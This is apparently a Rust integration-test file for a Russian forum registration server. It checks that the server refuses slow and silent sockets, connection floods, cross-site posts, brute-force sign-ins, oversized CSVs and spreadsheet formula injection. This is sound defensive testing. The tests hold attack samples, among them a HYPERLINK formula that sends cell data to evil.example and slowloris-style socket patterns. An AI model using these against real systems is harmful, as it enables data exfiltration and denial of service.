//! Hostile and careless clients against the live server (issue 11): sockets that send nothing
//! or trickle, more connections than the server holds, pages on other sites posting with the
//! organiser's cookie, scripts hammering sign-in and registration, a CSV of half a million
//! bad rows, names that are spreadsheet formulas, and every way of sending a request wrong.
//! Each is refused in Russian and changes nothing; where the store is involved, on SQLite and
//! on Postgres.

mod support;

use std::time::{Duration, Instant};

use reqwest::header::HeaderMap;
use serde_json::{Value, json};
use support::TestDb;
use support::server::{TestApp, at, test_forum, test_settings};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use yavka::clock::Clock;
use yavka::settings::{Rate, Settings};

fn unchanged(_: &mut Settings) {}

/// Request headers, as name and value.
type Headers = &'static [(&'static str, &'static str)];

/// A malformed request: case, method and path, headers, body, status, a fragment of the answer.
type Malformed = (
    &'static str,
    &'static str,
    Headers,
    Vec<u8>,
    u16,
    &'static str,
);

/// A request with extra headers and a raw body; the answer's status, headers and JSON.
async fn send(
    app: &TestApp,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: impl Into<reqwest::Body>,
) -> (u16, HeaderMap, Value) {
    let mut request = app
        .http
        .request(method.parse().unwrap(), format!("{}{path}", app.base))
        .body(body);
    for (k, v) in headers {
        request = request.header(*k, *v);
    }
    let response = request.send().await.expect("request sent");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let text = response.text().await.unwrap_or_default();
    let json = serde_json::from_str(&text).unwrap_or(Value::String(text));
    (status, headers, json)
}

/// A person can read the error: JSON, a Russian sentence with a capital letter, nothing of
/// the framework's English.
fn assert_russian(case: &str, headers: &HeaderMap, body: &Value) {
    let kind = headers.get("content-type").and_then(|v| v.to_str().ok());
    assert_eq!(kind, Some("application/json"), "{case}: {body}");
    let error = body["error"]
        .as_str()
        .unwrap_or_else(|| panic!("{case}: {body}"));
    let first = error.chars().next().unwrap();
    assert!(first.is_uppercase(), "{case}: {error}");
    assert!(
        error.chars().any(|c| matches!(c, 'а'..='я')),
        "{case}: {error}"
    );
    for english in [
        "Failed",
        "Expected",
        "deserialize",
        "struct ",
        "request body",
        "didn't",
    ] {
        assert!(!error.contains(english), "{case}: {error}");
    }
}

async fn viewer_total(app: &TestApp) -> usize {
    app.state
        .store
        .viewers(&app.state.forum.id)
        .await
        .unwrap()
        .len()
}

const REGISTRATION: &str = r#"{"name": "Иванова Анна Сергеевна", "email": "anna@example.org",
    "phone": "+7 916 123-45-67", "education": "higher", "specialty": "рентгенология",
    "consent_personal_data": true, "consent_terms": true}"#;

// ---- 1. Slow, silent and too many connections ------------------------------------------------

/// Reads until the server closes the socket; how long that took, or `None` within `limit`.
async fn closed_within(socket: &mut TcpStream, limit: Duration) -> Option<Duration> {
    let started = Instant::now();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout(
            limit.saturating_sub(started.elapsed()),
            socket.read(&mut buf),
        )
        .await
        {
            Err(_) => return None,
            Ok(Ok(0)) | Ok(Err(_)) => return Some(started.elapsed()),
            Ok(Ok(_)) => continue,
        }
    }
}

/// The status line and body of a raw HTTP/1.1 answer.
async fn raw_get(port: u16, path: &str) -> (u16, String) {
    let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n");
    s.write_all(request.as_bytes()).await.unwrap();
    let mut text = String::new();
    if let Err(e) = tokio::time::timeout(Duration::from_secs(5), s.read_to_string(&mut text))
        .await
        .expect("an answer in time")
    {
        return (0, e.to_string());
    }
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_slow_and_surplus_connections_are_cut_off() {
    let db = TestDb::sqlite();
    let mut settings = test_settings(&db.url);
    settings.server.header_read_timeout_secs = 1;
    settings.server.idle_timeout_secs = 2;
    settings.server.body_timeout_secs = 1;
    let app = TestApp::spawn_with(settings, test_forum(), at(-5)).await;
    let port = app.port;

    // Each hostile client, and when the server must have hung up on it.
    let silent = async {
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        closed_within(&mut s, Duration::from_secs(4)).await
    };
    let trickle = async {
        // One header every 400 ms: never a complete request within the header timeout.
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        let started = Instant::now();
        let _ = s.write_all(b"GET /healthz HTTP/1.1\r\n").await;
        for i in 0..10 {
            tokio::time::sleep(Duration::from_millis(400)).await;
            if s.write_all(format!("x-h{i}: 1\r\n").as_bytes())
                .await
                .is_err()
            {
                break;
            }
        }
        closed_within(&mut s, Duration::from_secs(4))
            .await
            .map(|_| started.elapsed())
    };
    let stalled_body = async {
        // Headers promise 100 bytes; 10 come. The body deadline answers 408, in Russian.
        let mut s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        let head = "POST /api/register HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
                    content-length: 100\r\n\r\n{\"name\": ";
        s.write_all(head.as_bytes()).await.unwrap();
        let mut text = String::new();
        let _ = tokio::time::timeout(Duration::from_secs(4), s.read_to_string(&mut text)).await;
        text
    };
    let (silent, trickle, stalled) = tokio::join!(silent, trickle, stalled_body);
    let silent = silent.expect("a silent socket is closed");
    assert!(silent < Duration::from_millis(2500), "{silent:?}");
    let trickle = trickle.expect("a trickling socket is closed");
    assert!(trickle < Duration::from_millis(2500), "{trickle:?}");
    assert!(stalled.starts_with("HTTP/1.1 408"), "{stalled}");
    assert!(stalled.contains("слишком долго"), "{stalled}");

    // A kept-alive connection that goes quiet is closed too, and the server still serves.
    let mut kept = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    kept.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n")
        .await
        .unwrap();
    assert!(
        closed_within(&mut kept, Duration::from_secs(4))
            .await
            .is_some()
    );
    assert_eq!(raw_get(port, "/healthz").await.0, 200);
    app.stop().await;
    db.drop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beyond_the_connection_cap_every_connection_gets_503_and_websockets_count() {
    for db in TestDb::all().await {
        let backend = db.backend;
        let mut settings = test_settings(&db.url);
        settings.server.max_connections = 4;
        let app = TestApp::spawn_with(settings, test_forum(), at(-5)).await;
        // Registered in the store: an HTTP client would keep a connection of its own.
        let mut form: yavka::domain::registration::RegistrationForm =
            serde_json::from_str(REGISTRATION).unwrap();
        let current = app
            .state
            .store
            .current_versions(&app.state.forum.id, app.clock.now())
            .await
            .unwrap();
        form.consent_personal_data_version = Some(current.personal_data);
        form.consent_terms_version = Some(current.terms);
        let registration =
            yavka::domain::registration::validate(&form, &app.state.catalogue, current).unwrap();
        let (_, token) = yavka::api::viewers::create_viewer(&app.state, &registration)
            .await
            .unwrap();
        let mut tab = app.connect(&token, "hall-1").await;
        tab.expect("welcome").await;
        let mut idle = Vec::new();
        for _ in 0..3 {
            idle.push(TcpStream::connect(("127.0.0.1", app.port)).await.unwrap());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;

        // Three idle sockets and one websocket fill the cap of four: the fifth is refused at
        // once (only a liveness probe is told the process is alive).
        let (status, text) = raw_get(app.port, "/api/forum").await;
        assert_eq!(status, 503, "{backend}: {text}");
        assert!(text.to_lowercase().contains("retry-after: 30"), "{text}");
        assert!(text.contains("Сервер перегружен"), "{text}");

        // The idle sockets go: places are free again. The websocket still holds one.
        drop(idle);
        let mut ok = false;
        for _ in 0..100 {
            if raw_get(app.port, "/api/forum").await.0 == 200 {
                ok = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert!(ok, "{backend}: places were given back");
        // (The probe's own connection is given back a moment after its answer.)
        tokio::time::sleep(Duration::from_millis(300)).await;
        let mut more = Vec::new();
        for _ in 0..3 {
            more.push(TcpStream::connect(("127.0.0.1", app.port)).await.unwrap());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        let mut buf = [0u8; 16];
        for s in &more {
            assert!(
                s.try_read(&mut buf).is_err(),
                "{backend}: held, not refused"
            );
        }
        assert_eq!(
            raw_get(app.port, "/api/forum").await.0,
            503,
            "{backend}: the tab counts"
        );
        drop(more);
        tab.close().await;
        app.stop().await;
        db.drop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn under_a_low_open_file_limit_health_still_answers() {
    // The real binary under `ulimit -n 256`, as in the issue (1,100 idle sockets under 1,024):
    // it lowers its cap to fit, refuses the surplus with 503 and drops the idle ones.
    let db = TestDb::sqlite();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("forum.toml"), support::server::TEST_FORUM).unwrap();
    let port = support::process::free_port();
    let server = support::process::start_limited(
        dir.path(),
        &db.url,
        port,
        256,
        // Long enough that the idle sockets are still held when the probes below are sent on a
        // busy machine (2 s was not, under CI's parallel builds), short enough to wait out.
        &[("YAVKA__SERVER__HEADER_READ_TIMEOUT_SECS", "6")],
    )
    .await;
    let mut idle = Vec::new();
    for _ in 0..300 {
        idle.push(TcpStream::connect(("127.0.0.1", port)).await.unwrap());
    }
    // Over the cap: a request gets 503 at once, and the liveness probe its 200.
    tokio::time::sleep(Duration::from_millis(700)).await;
    let started = Instant::now();
    let (status, text) = raw_get(port, "/api/forum").await;
    assert_eq!(status, 503, "{text}");
    assert!(text.contains("Сервер перегружен"), "{text}");
    let (status, text) = raw_get(port, "/healthz").await;
    assert_eq!(status, 200, "{text}");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "answered at once"
    );
    // Once the header timeout has dropped the idle sockets, requests are served again.
    let mut ok = false;
    for _ in 0..150 {
        tokio::time::sleep(Duration::from_millis(100)).await;
        if raw_get(port, "/api/forum").await.0 == 200 {
            ok = true;
            break;
        }
    }
    assert!(ok, "served again once the idle sockets are dropped");
    drop(idle);
    drop(server);
    db.drop().await;
}

// ---- 2. Requests from other sites, and bodies of the wrong type ------------------------------

async fn other_sites_and_wrong_types_change_nothing(app: &TestApp, backend: &str) {
    let csv = "name,email,phone,education,specialty\n\
               Иванова Анна Сергеевна,anna@example.org,+79161234567,higher,рентгенология\n";
    const EVIL: &[(&str, &str)] = &[("origin", "https://evil.example")];
    const EVIL_TEXT: &[(&str, &str)] = &[
        ("origin", "https://evil.example"),
        ("content-type", "text/plain"),
    ];
    const EVIL_FORM: &[(&str, &str)] = &[
        ("origin", "https://evil.example"),
        ("content-type", "application/x-www-form-urlencoded"),
    ];
    const EVIL_JSON: &[(&str, &str)] = &[
        ("origin", "https://evil.example"),
        ("content-type", "application/json"),
    ];
    const TEXT: &[(&str, &str)] = &[("content-type", "text/plain")];
    const FORM: &[(&str, &str)] = &[("content-type", "application/x-www-form-urlencoded")];
    const JSON: &[(&str, &str)] = &[("content-type", "application/json")];
    const MULTIPART: &[(&str, &str)] = &[("content-type", "multipart/form-data; boundary=x")];
    const EVIL_REFERER: &[(&str, &str)] = &[("referer", "https://evil.example/x")];
    const SANDBOXED: &[(&str, &str)] = &[("origin", "null"), ("content-type", "application/json")];
    let hall = r#"{"hall":"hall-1"}"#;
    // (case, method and path, headers, body, status). The issue's three come first: a
    // text/plain import, a form to the mail endpoint, codes issued from another site.
    #[rustfmt::skip]
    let cases: Vec<(&str, &str, Headers, &str, u16)> = vec![
        ("text/plain import from another site", "POST /api/org/viewers/import", EVIL_TEXT, csv, 403),
        ("text/plain import, no origin", "POST /api/org/viewers/import", TEXT, csv, 415),
        ("a form to the mail endpoint from another site", "POST /api/org/mail/links", EVIL_FORM, "a=1", 403),
        ("a form to the mail endpoint, no origin", "POST /api/org/mail/links", FORM, "a=1", 415),
        ("codes issued from another site", "POST /api/org/codes/issue?session=s1", EVIL, "", 403),
        ("codes issued, Referer another site", "POST /api/org/codes/issue?session=s1", EVIL_REFERER, "", 403),
        ("a sandboxed page (Origin: null)", "POST /api/org/prompts", SANDBOXED, hall, 403),
        ("a registration from another site", "POST /api/register", EVIL_JSON, REGISTRATION, 403),
        ("a multipart registration", "POST /api/register", MULTIPART, REGISTRATION, 415),
        ("a code pool as JSON", "POST /api/org/codes/pool?session=s1", JSON, "\"ABCDEF123456\"", 415),
        ("a link reissued from another site", "POST /api/org/viewers/v-1/link", EVIL, "", 403),
        ("sign-out from another site", "POST /api/org/logout", EVIL, "", 403),
    ];
    for (case, request, headers, body, status) in cases {
        let (method, path) = request.split_once(' ').unwrap();
        let (got, h, answer) = send(app, method, path, headers, body.to_owned()).await;
        assert_eq!(got, status, "{backend}: {case}: {answer}");
        assert_russian(case, &h, &answer);
    }
    // Nothing happened: no viewer, no letter, no code, still signed in.
    assert_eq!(viewer_total(app).await, 0, "{backend}");
    let (_, log) = app.get("/api/org/mail/log").await;
    assert_eq!(
        log["rows"].as_array().map(Vec::len),
        Some(0),
        "{backend}: {log}"
    );
    assert!(
        app.state
            .store
            .codes(&app.state.forum.id)
            .await
            .unwrap()
            .is_empty()
    );
    let (status, _) = app.get("/api/org/me").await;
    assert_eq!(status, 200, "{backend}: still signed in");

    // The server's own pages (same origin, the documented types) still work.
    let own = [("origin", app.base.as_str())];
    let (status, _, body) = send(
        app,
        "POST",
        "/api/org/viewers/import",
        &[own[0], ("content-type", "text/csv")],
        csv.to_owned(),
    )
    .await;
    assert_eq!(status, 200, "{backend}: {body}");
    let localhost = app.base.replace("127.0.0.1", "localhost");
    let host = localhost.trim_start_matches("http://").to_owned();
    let (status, _, body) = send(
        app,
        "POST",
        "/api/org/codes/issue?session=s1",
        &[("origin", &localhost), ("host", &host)],
        "",
    )
    .await;
    assert_eq!(
        status, 200,
        "{backend}: the address the browser used: {body}"
    );
    let (status, _, body) = send(app, "POST", "/api/org/logout", &own, "").await;
    assert_eq!(status, 200, "{backend}: {body}");
    let (status, h, body) = send(app, "POST", "/api/org/logout", &own, "").await;
    assert_eq!(status, 401, "{backend}: signing out twice: {body}");
    assert_russian("sign-out when not signed in", &h, &body);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_from_other_sites_and_of_the_wrong_type_change_nothing() {
    on_every_backend!(other_sites_and_wrong_types_change_nothing, unchanged);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_organiser_cookie_is_secure_over_https() {
    let db = TestDb::sqlite();
    for (public_url, secure) in [(Some("https://forum.example.org"), true), (None, false)] {
        let mut settings = test_settings(&db.url);
        settings.server.public_url = public_url.map(str::to_owned);
        let app = TestApp::spawn_with(settings, test_forum(), at(-5)).await;
        let hash = yavka::api::auth::hash_password("пароль-организатора").unwrap();
        let _ = app.state.store.insert_organiser("admin", &hash, 0).await;
        let r = reqwest::Client::new()
            .post(format!("{}/api/org/login", app.base))
            .json(&json!({"login": "admin", "password": "пароль-организатора"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let cookie = r.headers()["set-cookie"].to_str().unwrap().to_owned();
        assert_eq!(
            cookie.contains("Secure"),
            secure,
            "{public_url:?}: {cookie}"
        );
        assert!(
            cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
            "{cookie}"
        );
        app.stop().await;
    }
    db.drop().await;
}

// ---- 3. Throttles ----------------------------------------------------------------------------

fn tight_throttles(s: &mut Settings) {
    let rate = |burst| Rate {
        per_minute: 1,
        burst,
    };
    s.limits.login_per_account = rate(3);
    s.limits.login_per_address = rate(6);
    s.limits.register_per_address = rate(2);
    s.limits.resend_per_address = rate(1);
}

async fn scripts_are_throttled(app: &TestApp, backend: &str) {
    let login = |who: &str| json!({"login": who, "password": "wrong"}).to_string();
    let register = |email: &str| REGISTRATION.replace("anna@example.org", email);
    let json = [("content-type", "application/json")];
    // (case, path, body, status; 0: anything but 429) in order. The organiser already signed
    // in once, from this address.
    #[rustfmt::skip]
    let steps: Vec<(&str, &str, String, u16)> = vec![
        ("sign-in 2 of 3 for admin", "/api/org/login", login("admin"), 401),
        ("sign-in 3 of 3 for « ADMIN » (the same account)", "/api/org/login", login(" ADMIN "), 401),
        ("sign-in 4 for admin: throttled per account", "/api/org/login", login("admin"), 429),
        ("another account is not", "/api/org/login", login("petrov"), 401),
        ("the address's 6th attempt", "/api/org/login", login("sidorov"), 401),
        ("the address's 7th: throttled per address", "/api/org/login", login("ivanov"), 429),
        ("registration 1 of 2", "/api/register", register("anna@example.org"), 0),
        ("registration 2 of 2", "/api/register", register("petr@example.org"), 0),
        ("registration 3: throttled", "/api/register", register("olga@example.org"), 429),
        ("a lost-link letter", "/api/relink", r#"{"email":"a@example.org"}"#.into(), 0),
        ("a second: throttled", "/api/relink", r#"{"email":"b@example.org"}"#.into(), 429),
    ];
    for (case, path, body, status) in steps {
        let viewers = viewer_total(app).await;
        let (got, headers, answer) = send(app, "POST", path, &json, body).await;
        if status == 0 {
            assert_ne!(got, 429, "{backend}: {case}: {answer}");
            continue;
        }
        assert_eq!(got, status, "{backend}: {case}: {answer}");
        if status == 429 {
            assert_russian(case, &headers, &answer);
            let retry: u64 = headers["retry-after"].to_str().unwrap().parse().unwrap();
            assert!((1..=60).contains(&retry), "{case}: {retry}");
            let error = answer["error"].as_str().unwrap();
            assert!(error.contains("Повторите через"), "{case}: {error}");
            assert_eq!(
                viewer_total(app).await,
                viewers,
                "{backend}: {case} changed nothing"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_registration_and_lost_link_letters_are_throttled() {
    on_every_backend!(scripts_are_throttled, tight_throttles);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behind_a_trusted_proxy_clients_are_told_apart_by_its_header() {
    let db = TestDb::sqlite();
    let mut settings = test_settings(&db.url);
    tight_throttles(&mut settings);
    settings.server.trusted_proxy_header = Some("X-Forwarded-For".into());
    let app = TestApp::spawn_with(settings, test_forum(), at(-5)).await;
    let attempt = |forwarded: &'static str, n: u32| {
        let app = &app;
        async move {
            let body = json!({"login": format!("user{n}"), "password": "x"}).to_string();
            let headers = [
                ("content-type", "application/json"),
                ("x-forwarded-for", forwarded),
            ];
            send(app, "POST", "/api/org/login", &headers, body).await.0
        }
    };
    // The proxy appends the address it saw; only that last one counts.
    for n in 0..6 {
        assert_eq!(attempt("198.51.100.1, 203.0.113.7", n).await, 401);
    }
    assert_eq!(
        attempt("198.51.100.99, 203.0.113.7", 6).await,
        429,
        "same client"
    );
    assert_eq!(attempt("203.0.113.8", 7).await, 401, "another client");
    app.stop().await;
    db.drop().await;
}

// ---- 4. CSV import: bounded errors, Windows-1251 ---------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_a_million_bad_rows_get_a_small_quick_answer() {
    let db = TestDb::sqlite();
    let app = TestApp::spawn(&db.url).await;
    app.sign_in_organiser().await;
    let mut file = String::from("name,email,phone,education,specialty\n");
    while file.len() < 7_900_000 {
        file.push_str("a,x,1,higher,y\n");
    }
    let rows = file.lines().count() - 1;
    let started = Instant::now();
    let (status, _, body) = send(
        &app,
        "POST",
        "/api/org/viewers/import",
        &[("content-type", "text/csv")],
        file,
    )
    .await;
    let elapsed = started.elapsed();
    assert_eq!(status, 422);
    let size = body.to_string().len();
    assert!(size < 64 * 1024, "{size} bytes");
    assert_eq!(body["fields"].as_array().unwrap().len(), 100);
    assert_eq!(body["bad_rows"].as_u64(), Some(rows as u64));
    assert!(body["error_count"].as_u64().unwrap() >= rows as u64);
    let message = body["error"].as_str().unwrap();
    assert!(message.contains("Показаны первые 100"), "{message}");
    // Debug build on a shared machine; the release build takes a fraction of this.
    assert!(elapsed < Duration::from_secs(30), "{elapsed:?}");
    eprintln!("{rows} bad rows: 422 with {size} bytes in {elapsed:?}");
    assert_eq!(viewer_total(&app).await, 0);
    app.stop().await;
    db.drop().await;
}

async fn imports_in_other_encodings(app: &TestApp, backend: &str) {
    let text = "name;email;phone;education;specialty\n\
                Ёлкина Мария Ивановна;maria@example.org;+79161234567;higher;рентгенология\n";
    let (cp1251, _, _) = encoding_rs::WINDOWS_1251.encode(text);
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let big = vec![b'a'; app.state.settings.server.max_body_bytes + 1];
    // (case, content type, bytes, status, what the answer says)
    #[rustfmt::skip]
    let cases: Vec<(&str, &str, Vec<u8>, u16, &str)> = vec![
        ("UTF-16 from Excel", "text/csv", utf16, 400, "UTF-8"),
        ("over the body limit", "text/csv", big, 413, "8 МБ"),
        ("Windows-1251 from Russian Excel", "application/vnd.ms-excel", cp1251.into_owned(), 200, ""),
    ];
    for (case, kind, bytes, status, says) in cases {
        let (got, headers, body) = send(
            app,
            "POST",
            "/api/org/viewers/import",
            &[("content-type", kind)],
            bytes,
        )
        .await;
        assert_eq!(got, status, "{backend}: {case}: {body}");
        if status != 200 {
            assert_russian(case, &headers, &body);
            assert!(
                body["error"].as_str().unwrap().contains(says),
                "{case}: {body}"
            );
        } else {
            assert_eq!(body["encoding"], "windows-1251", "{body}");
            assert_eq!(
                body["created"][0]["name"], "Ёлкина Мария Ивановна",
                "{body}"
            );
        }
    }
    assert_eq!(viewer_total(app).await, 1, "{backend}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_files_in_other_encodings_are_read_or_refused_clearly() {
    on_every_backend!(imports_in_other_encodings, unchanged);
}

// ---- 5. Formula injection ----------------------------------------------------------------------

async fn formulas_stay_text(app: &TestApp, backend: &str) {
    let names = [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"Click") Иван"#,
        "+1+2 Петров Пётр",
        "-3+4 Сидоров Сидор",
        "@SUM(A1:A9) Кузнецова Ольга",
    ];
    let mut tabs = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let (_, token) = app.register(name, &format!("v{i}@example.org")).await;
        let mut tab = app.connect(&token, "hall-1").await;
        tab.expect("welcome").await;
        tabs.push(tab);
    }
    app.clock.set(at(10));
    for tab in tabs {
        tab.close().await;
    }
    let closed = |e: &yavka::domain::log::Event| {
        matches!(e.body, yavka::domain::log::EventBody::Disconnect { .. })
    };
    app.wait_for_log(|events| events.iter().filter(|e| closed(e)).count() == names.len())
        .await;

    for path in ["/api/org/export.csv?delimiter=;", "/api/org/results.csv"] {
        let (status, csv) = app.get_text(path).await;
        assert_eq!(status, 200, "{backend}: {path}");
        let delimiter = if path.contains(';') { b';' } else { b',' };
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let mut seen = std::collections::BTreeSet::<&str>::new();
        for row in reader.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@']),
                    "{backend}: {path}: {cell}"
                );
                seen.extend(names.iter().filter(|n| cell == format!("'{n}")));
            }
        }
        assert_eq!(
            seen.len(),
            names.len(),
            "{backend}: {path}: every name, neutralised: {csv}"
        );
    }
    // Elsewhere names stay exactly as typed: JSON, XLSX (inline strings never run).
    let (_, results) = app.get("/api/org/results?session=s1").await;
    let json_names: Vec<&str> = results["rows"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["name"].as_str())
        .collect();
    assert!(
        names.iter().all(|n| json_names.contains(n)),
        "{backend}: {results}"
    );
    let xlsx = app
        .http
        .get(format!("{}/api/org/export.xlsx", app.base))
        .send()
        .await
        .unwrap();
    let bytes = xlsx.bytes().await.unwrap();
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    use calamine::Reader;
    let mut cells = Vec::new();
    for sheet in book.sheet_names() {
        let range = book.worksheet_range(&sheet).unwrap();
        cells.extend(range.rows().flat_map(|r| r.iter().map(|c| c.to_string())));
    }
    assert!(
        names.iter().all(|n| cells.iter().any(|c| c == n)),
        "{backend}: XLSX keeps names"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_that_are_formulas_stay_text_in_every_csv() {
    on_every_backend!(formulas_stay_text, unchanged);
}

// ---- 6. Every error in Russian JSON -----------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_malformed_request_is_answered_in_russian_json() {
    let db = TestDb::sqlite();
    let mut settings = test_settings(&db.url);
    settings.server.max_body_bytes = 64 * 1024;
    let app = TestApp::spawn_with(settings, test_forum(), at(-5)).await;
    app.sign_in_organiser().await;
    let big = format!("{{\"name\": \"{}\"}}", "я".repeat(40_000));
    const NONE: &[(&str, &str)] = &[];
    const JSON: &[(&str, &str)] = &[("content-type", "application/json")];
    const TEXT: &[(&str, &str)] = &[("content-type", "text/plain")];
    let b = |text: &str| text.as_bytes().to_vec();
    // (case, method and path, headers, body, status, a fragment of the answer)
    #[rustfmt::skip]
    let cases: Vec<Malformed> = vec![
        ("a field of the wrong type", "POST /api/register", JSON, b(r#"{"name": 5}"#), 400,
         "Поле «name»: ожидается строка"),
        ("a list instead of the form", "POST /api/register", JSON, b(r#"["Иванова", "a@b.ru"]"#), 400,
         "объект JSON"),
        ("broken JSON", "POST /api/register", JSON, b("{\"name\":"), 400, "не JSON"),
        ("a missing field", "POST /api/org/prompts", JSON, b("{}"), 400, "Не хватает поля «hall»"),
        ("no content type", "POST /api/register", NONE, b(REGISTRATION), 415, "JSON"),
        ("over the body limit", "POST /api/register", JSON, big.into_bytes(), 413, "64 КБ"),
        ("a number that is not one", "GET /api/org/viewers?limit=abc", NONE, vec![], 400, "«limit»"),
        ("a two-character delimiter", "GET /api/org/results.csv?delimiter=;;", NONE, vec![], 400,
         "«delimiter»"),
        ("a parameter left out", "POST /api/org/codes/issue", NONE, vec![], 400,
         "Не хватает параметра адреса «session»"),
        ("a code pool not in UTF-8", "POST /api/org/codes/pool?session=s1", TEXT, vec![0xc0, 0xc1], 400,
         "UTF-8"),
        ("no such API address", "GET /api/nothing-here", NONE, vec![], 404, "Такого адреса нет"),
        ("a method the address does not take", "DELETE /api/register", NONE, vec![], 405,
         "не принимает запросы DELETE"),
        ("the websocket address without a websocket", "GET /ws?token=x&hall=hall-1", NONE, vec![], 400,
         "websocket"),
        ("a personal link that does not work", "GET /api/me?token=nope", NONE, vec![], 401,
         "Ссылка недействительна"),
    ];
    for (case, request, headers, body, status, says) in cases {
        let (method, path) = request.split_once(' ').unwrap();
        let (got, h, answer) = send(&app, method, path, headers, body).await;
        assert_eq!(got, status, "{case}: {answer}");
        assert_russian(case, &h, &answer);
        let error = answer["error"].as_str().unwrap();
        assert!(error.contains(says), "{case}: «{says}» not in «{error}»");
    }
    app.stop().await;
    db.drop().await;
}

// ---- 7. A reissued link closes the open tab with a message -----------------------------------

async fn a_reissued_link_closes_the_tab_with_a_message(app: &TestApp, backend: &str) {
    let (id, token) = app
        .register("Иванова Анна Сергеевна", "anna@example.org")
        .await;
    let mut tab = app.connect(&token, "hall-1").await;
    tab.expect("welcome").await;
    let (status, body) = app
        .post(&format!("/api/org/viewers/{id}/link"), json!({}))
        .await;
    assert_eq!(status, 200, "{backend}: {body}");
    let error = tab.expect("error").await;
    assert_eq!(error["code"], "unauthorized", "{backend}: {error}");
    let message = error["message"].as_str().unwrap();
    assert!(
        message.starts_with("Организатор выдал вам новую ссылку"),
        "{message}"
    );
    let closed = tab.next().await;
    assert_eq!(closed["type"], "__closed", "{backend}: {closed}");
    assert_eq!(closed["code"], 4401, "{backend}: {closed}");
    assert_eq!(closed["reason"], message, "{backend}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reissued_link_closes_open_tabs_with_4401_and_says_why() {
    on_every_backend!(a_reissued_link_closes_the_tab_with_a_message, unchanged);
}
